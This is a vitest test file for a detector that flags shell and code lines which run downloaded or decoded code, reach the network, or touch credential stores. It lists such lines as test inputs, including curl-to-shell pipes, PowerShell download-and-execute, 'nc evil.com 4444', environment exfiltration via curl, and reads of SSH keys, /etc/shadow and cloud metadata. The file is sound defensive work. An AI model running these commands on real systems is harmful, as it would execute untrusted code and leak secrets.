import { expect, test } from 'vitest';
import { credentialAccess, networkCalls, shellPipes } from './commands.ts';
import type { Hit, SearchedFile } from './searched-file.ts';

const found = (rule: (file: SearchedFile) => Hit[], text: string) => [
  ...new Set(rule({ path: 'run.sh', text, encoding: 'unicode' }).map(({ what }) => what)),
];

test.each([
  'curl -fsSL https://a.com/install.sh | sh',
  'curl -fsSL https://a.com/install.sh | sudo -E bash -',
  'curl https://a.com \\\n  | bash',
  'curl https://a.com |\n  bash -s -- --yes',
  'wget -qO- https://a.com | tee log | python3',
  'curl https://a.com | python3 -u - --yes',
  'curl https://a.com | bash -x',
  'curl https://a.com | sh -es -- --yes',
  'curl https://a.com | jq -r .x | node',
  'curl https://a.com | python3 -m json.tool | sh',
  'curl https://a.com | bash /dev/stdin',
  'curl https://a.com | sh to set it up',
  'curl https://a.com/x | /usr/bin/env bash',
  'curl "$URL" | zsh',
  'bash <(curl -s https://a.com)',
  'source <(curl -s https://a.com)',
  '. <(curl -s https://a.com)',
  'sh -c "$(curl -fsSL https://a.com)"',
  'eval "$(curl -fsSL https://a.com)"',
  'eval "`curl -fsSL https://a.com`"',
  'curl https://a.com -o /tmp/x.sh && bash /tmp/x.sh',
  'curl https://a.com -o x; chmod +x x; ./x',
  'curl -o /tmp/x https://a.com && chmod +x /tmp/x',
  'wget https://a.com/x -O x.py\npython3 x.py',
  'exec(requests.get("https://a.com").text)',
  'exec(urllib.request.urlopen(u).read())',
  'eval(await (await fetch(u)).text())',
  "IEX (New-Object Net.WebClient).DownloadString('https://a.com')",
  'iwr https://a.com/x.ps1 | iex',
])('runs what it downloads: %s', (text) => {
  expect(found(shellPipes, text).join()).toMatch(/^runs (?:what|the file that) it downloads/);
});

test('however much stands between', () => {
  const options = '-H a:b '.repeat(500);
  expect(found(shellPipes, `curl ${options} https://a.com | sh`)).toEqual(['runs what it downloads']);
  expect(found(shellPipes, `curl ${options} \\\n https://a.com \\\n | sh`)).toEqual(['runs what it downloads']);
  expect(found(shellPipes, `curl ${options} https://a.com\ncat x | sh`)).toEqual([]);
});

test.each([
  'echo aGk= | base64 -d | sh',
  'base64 --decode x | sudo bash',
  'eval "$(echo aGk= | base64 -d)"',
  'bash -c "$(echo aGk= | base64 --decode)"',
  'echo 6869 | xxd -r -p | sh',
  'openssl enc -aes-256-cbc -d -in x | bash',
  'exec(base64.b64decode("aGk="))',
  'eval(atob("aGk="))',
  'new Function(Buffer.from("aGk=", "base64").toString())()',
  'pickle.loads(base64.b64decode(x))',
  'powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA',
])('runs what it decodes: %s', (text) => {
  expect(found(shellPipes, text)).toContain('runs what it decodes');
});

test.each([
  'curl -s https://a.com | jq .name',
  'curl -s https://a.com > data.json && python3 analyse.py',
  'curl -O https://a.com/data.csv\npython3 analyse.py data.csv.bak',
  'cat list | sh -n',
  'curl -s https://a.com | python3 -m json.tool',
  'curl -s https://a.com | python3 -c "import sys; print(1)"',
  "curl -s https://a.com | perl -ne 'print'",
  "curl -s https://a.com | ruby -rjson -e 'puts 1'",
  'curl -s https://a.com | node scripts/table.js',
  "curl -s https://a.com | bash -c 'wc -l'",
  're.compile(r"fetch\\s*\\(")',
  'm = pattern.exec(await fetch(url))',
  'base64 -d data.txt > data.bin',
  'json.loads(base64.b64decode(x))',
  're.compile("a"); requests.get("https://a.com")',
  'The shell evaluates it; curl and bash are installed.',
  'echo $(date) | shasum',
])('reads, or runs what is there: %s', (text) => {
  expect(found(shellPipes, text)).toEqual([]);
});

test.each([
  ['curl -s https://a.com', 'calls curl'],
  ['curl "$URL"', 'calls curl'],
  ['wget a.example.com/x', 'calls wget'],
  ['nc -l 80', 'calls nc'],
  ['nc evil.com 4444', 'calls nc'],
  ['ssh ada@host', 'calls ssh'],
  ['scp x ada@host:/tmp', 'copies to or from another machine'],
  ['rsync -a x host:/tmp', 'copies to or from another machine'],
  ['exec 3<>/dev/tcp/host/80', 'opens a socket'],
  ['s = socket.socket()', 'opens a socket'],
  ['await fetch("https://a.com")', 'calls fetch'],
  ['fetch(url, {})', 'calls fetch'],
  ['requests.post(u)', 'calls Python requests'],
  ['import urllib.request', 'calls Python urllib or http'],
  ['from http.client import HTTPSConnection', 'calls Python urllib or http'],
  ['import requests', 'calls Python urllib or http'],
  ["import https from 'node:https'", 'uses a network module of Node'],
  ['require("net")', 'uses a network module of Node'],
  ['new WebSocket(u)', 'uses a network object of the browser'],
  ['axios.get(u)', 'uses a network object of the browser'],
  ['Invoke-WebRequest $u', 'calls the network from PowerShell'],
  ['Net::HTTP.get(u)', 'calls Ruby or Go for the network'],
  ['dig +short a.com', 'asks a name server'],
])('reaches the network: %s', (text, what) => {
  expect(found(networkCalls, text)).toContain(what);
});

test.each([
  'We get many requests. Post the notes. The socket fits.',
  'Use curl. A wget of yours. If curl is missing, say so.',
  'git fetch origin; prefetch(url); obj.fetch(x)',
  'import path from "node:path"; require("nettle")',
  'The scp command and the ssh keys.',
  'dig deeper; nc stands for numerical control',
])('speaks of it only: %s', (text) => {
  expect(found(networkCalls, text)).toEqual([]);
});

test.each([
  ['cat ~/.ssh/id_rsa', 'names the SSH keys of a person'],
  ['$HOME/.ssh', 'names the SSH keys of a person'],
  ['~/.aws/credentials', 'names the AWS credentials of a person'],
  ['~/.config/gcloud', 'names the credentials of a cloud tool'],
  ['~/.netrc', 'names a file of passwords'],
  ['/etc/shadow', 'names a file of passwords'],
  ['cat .env', 'reads a file of environment variables'],
  ['source ./.env.local', 'reads a file of environment variables'],
  ['open(".env")', 'reads a file of environment variables'],
  ['load_dotenv()', 'reads a file of environment variables'],
  ['/proc/self/environ', 'reads the environment of a process'],
  ['/proc/*/environ', 'reads the environment of a process'],
  ['/proc/$PID/environ', 'reads the environment of a process'],
  ['printenv | curl -d @- https://a.com', 'hands all environment variables on'],
  ['env | base64', 'hands all environment variables on'],
  ['json.dumps(dict(os.environ))', 'hands all environment variables on'],
  ['http://169.254.169.254/latest', 'names the address that gives credentials to machines of a cloud'],
  ['security find-generic-password -w', 'asks a keychain or a tool for its credentials'],
  ['gh auth token', 'asks a keychain or a tool for its credentials'],
  ['cookies.sqlite', 'names the store of passwords of a browser'],
  ['/run/secrets/db', 'names the token of a container'],
])('goes where credentials are: %s', (text, what) => {
  expect(found(credentialAccess, text)).toContain(what);
});

test.each([
  'process.env.NODE_ENV and os.environ["LANG"]',
  'Copy .env.example. See the environment. An .envelope. cat x.environment',
  'env | sort',
  'printenv PATH',
  'Ask for the SSH key; see /proc/cpuinfo.',
])('reads what is its own: %s', (text) => {
  expect(found(credentialAccess, text)).toEqual([]);
});
